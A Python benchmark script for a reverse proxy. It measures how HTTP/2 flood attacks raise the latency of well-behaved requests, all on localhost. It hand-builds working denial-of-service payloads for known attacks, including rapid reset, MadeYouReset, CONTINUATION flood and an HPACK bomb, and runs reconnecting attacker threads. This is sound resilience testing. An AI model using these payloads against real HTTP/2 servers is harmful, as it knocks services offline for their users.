#!/usr/bin/env python3
"""What floods of HTTP/2 cost the clients beside them: latency of well-behaved requests without and with each attack.

  cmake --preset release && cmake --build --preset release --target revproxyd
  tests/bench/abuse.py --binary build/release/revproxyd

In each round each attack is measured between two quiet spells, whose mean it is compared with. Attackers connect again as often as they
are sent away, or with --impatient as soon as they have sent everything. They stand for other machines, and so do the clients and the
origin: attackers get the cores of this one only when nobody else wants them, clients and the origin (as far as root can say so) before
the proxy. h2load sends a given number of requests a second and writes down the time of each.

Needs h2load, and a machine that has nothing else to do. Prints a table in Markdown; ends with 1 when a well-behaved request failed.
"""

import argparse
import os
import socket
import statistics
import struct
import subprocess
import sys
import tempfile
import threading
import time

from servers import ORIGIN, come_first, free_ports, start, stop, write

CONFIG = """\
listeners: [ {{ name: web, address: "127.0.0.1:{port}" }} ]
upstreams: {{ origin: {{ servers: [ {{ url: "http://127.0.0.1:{origin}" }} ] }} }}
limits: {{ requests_per_connection: 0 }}
routes: [ {{ to: origin }} ]
access_log: off
log: {{ level: error, path: {dir}/proxy.log }}
admin: {{ socket: {dir}/proxy.sock }}
"""

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def block(method=b"GET"):
    return (literal(b":method", method) + literal(b":scheme", b"http") + literal(b":authority", b"bench.test") +
            literal(b":path", b"/"))


def streams(count):
    return range(1, 2 * count, 2)


def number(value):
    return struct.pack(">I", value)


def referring_block():
    """One field of 3,500 bytes in the table, and a byte for each further use of it."""
    value = b"v" * 3500
    size = bytes([0x7f]) + bytes([(len(value) - 127) & 0x7f | 0x80, (len(value) - 127) >> 7])
    return block() + b"\x40\x01x" + size + value + b"\xbe" * 4000


def come_last():
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))


# What each sends on a connection before it reads until it is sent away.
ATTACKS = {
    "rapid reset": b"".join(frame(HEADERS, END_STREAM | END_HEADERS, i, block()) + frame(RST_STREAM, 0, i, number(8))
                            for i in streams(2000)),
    "MadeYouReset": b"".join(frame(HEADERS, END_HEADERS, i, block(b"POST")) + frame(WINDOW_UPDATE, 0, i, number(0x7fffffff))
                             for i in streams(2000)),
    "malformed requests": b"".join(frame(HEADERS, END_STREAM | END_HEADERS, i, literal(b":method", b"GET")) for i in streams(4000)),
    "CONTINUATION": frame(HEADERS, 0, 1, block()) + frame(CONTINUATION, 0, 1) * 10000,
    "SETTINGS": frame(SETTINGS, 0, 0) * 10000,
    "PING": frame(PING, 0, 0, b"12345678") * 10000,
    "PRIORITY": frame(PRIORITY, 0, 3, number(1) + b"\x10") * 10000,
    "WINDOW_UPDATE": frame(WINDOW_UPDATE, 0, 0, number(1)) * 10000,
    "empty DATA": frame(HEADERS, END_HEADERS, 1, block(b"POST")) + frame(DATA, 0, 1) * 10000,
    "HPACK bomb": b"".join(frame(HEADERS, END_STREAM | END_HEADERS, i, referring_block()) for i in streams(20)),
}


class Attack:
    """Keeps `attackers` connections at it until stop(). Runs in a process of its own, see main()."""

    def __init__(self, name, port, attackers, patient):
        command = [sys.executable, os.path.abspath(__file__), "--attack", name, str(port), str(attackers), str(int(patient))]
        self.process = subprocess.Popen(command, stdout=subprocess.PIPE, stdin=subprocess.PIPE, text=True, preexec_fn=come_last)
        self.process.stdout.readline()

    def stop(self):
        output, _ = self.process.communicate("stop\n", timeout=30)
        return int(output)


def attack(name, port, attackers, patient):
    payload = PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0) + ATTACKS[name]
    ended = threading.Event()
    counts = [0] * attackers

    def run(me):
        while not ended.is_set():
            try:
                with socket.create_connection(("127.0.0.1", port), 5) as connection:
                    counts[me] += 1
                    connection.sendall(payload)
                    while patient and connection.recv(65536):
                        pass
            except OSError:
                pass

    threads = [threading.Thread(target=run, args=(i,)) for i in range(attackers)]
    for thread in threads:
        thread.start()
    print("begun", flush=True)
    sys.stdin.readline()
    ended.set()
    for thread in threads:
        thread.join()
    print(sum(counts), flush=True)


def latencies(options, directory, port):
    """Median and 99th percentile of well-behaved requests, in milliseconds."""
    log = os.path.join(directory, "times")
    if os.path.exists(log):
        os.unlink(log)
    command = ["h2load", "-c", str(options.clients), "-m", "10", f"--rps={options.rate / options.clients:g}", "-D",
               f"{options.seconds:g}", f"--log-file={log}", f"http://127.0.0.1:{port}/"]
    subprocess.run(command, check=True, stdout=subprocess.DEVNULL, preexec_fn=come_first)
    with open(log, encoding="ascii") as file:
        lines = [line.split() for line in file]
    if not lines or any(status != "200" for _, status, _ in lines):
        raise SystemExit("abuse: a well-behaved request failed")
    times = sorted(int(took) / 1000 for _, _, took in lines)
    return times[len(times) // 2], times[int(len(times) * 0.99)]


def measure(options, directory, port):
    rows = {name: [] for name in options.attacks}
    for turn in range(options.rounds):
        quiet = latencies(options, directory, port)
        for name in options.attacks:
            beside = Attack(name, port, options.attackers, not options.impatient)
            time.sleep(0.3)
            begun = time.monotonic()
            try:
                during = latencies(options, directory, port)
            finally:
                connections = beside.stop()
            rate = connections / (time.monotonic() - begun + 0.3)
            after = latencies(options, directory, port)
            rows[name].append(((quiet[0] + after[0]) / 2, during[0], (quiet[1] + after[1]) / 2, during[1], rate))
            quiet = after
        print(f"round {turn + 1} of {options.rounds}", file=sys.stderr)
    return rows


def table(rows):
    print("| attack | connections/s | median, quiet | beside | ratio | 99 %, quiet | beside | ratio |\n|---|---|---|---|---|---|---|---|")
    for name, rounds in rows.items():
        def middle(of):
            return statistics.median(of(one) for one in rounds)
        print(f"| {name} | {middle(lambda r: r[4]):.0f} | {middle(lambda r: r[0]):.2f} ms | {middle(lambda r: r[1]):.2f} ms "
              f"| {middle(lambda r: r[1] / r[0]):.2f} | {middle(lambda r: r[2]):.2f} ms | {middle(lambda r: r[3]):.2f} ms "
              f"| {middle(lambda r: r[3] / r[2]):.2f} |")


def main():
    if len(sys.argv) == 6 and sys.argv[1] == "--attack":
        return attack(sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), sys.argv[5] == "1")
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--binary", default="build/release/revproxyd", help="the revproxyd to measure")
    parser.add_argument("--rounds", type=int, default=5)
    parser.add_argument("--seconds", type=float, default=2.0, help="of one measurement")
    parser.add_argument("--clients", type=int, default=10, help="well-behaved connections")
    parser.add_argument("--rate", type=float, default=1000, help="well-behaved requests a second")
    parser.add_argument("--attackers", type=int, default=4, help="connections at once")
    parser.add_argument("--impatient", action="store_true", help="attackers do not wait until they are sent away")
    parser.add_argument("--attacks", nargs="+", choices=list(ATTACKS), default=list(ATTACKS))
    options = parser.parse_args()
    with tempfile.TemporaryDirectory(prefix="revproxyd-abuse.") as directory:
        words = dict(zip(("port", "origin"), free_ports(2)), dir=directory, text="x" * 1024)
        binary = os.path.abspath(options.binary)
        daemons = [start([binary, "-c", write(directory, "origin.yaml", ORIGIN.format(**words))], words["origin"])]
        come_first(daemons[0].pid)
        try:
            daemons.append(start([binary, "-c", write(directory, "proxy.yaml", CONFIG.format(**words))], words["port"]))
            rows = measure(options, directory, words["port"])
        finally:
            for daemon in daemons:
                stop(daemon, 40)
    table(rows)
    return None


if __name__ == "__main__":
    sys.exit(main())
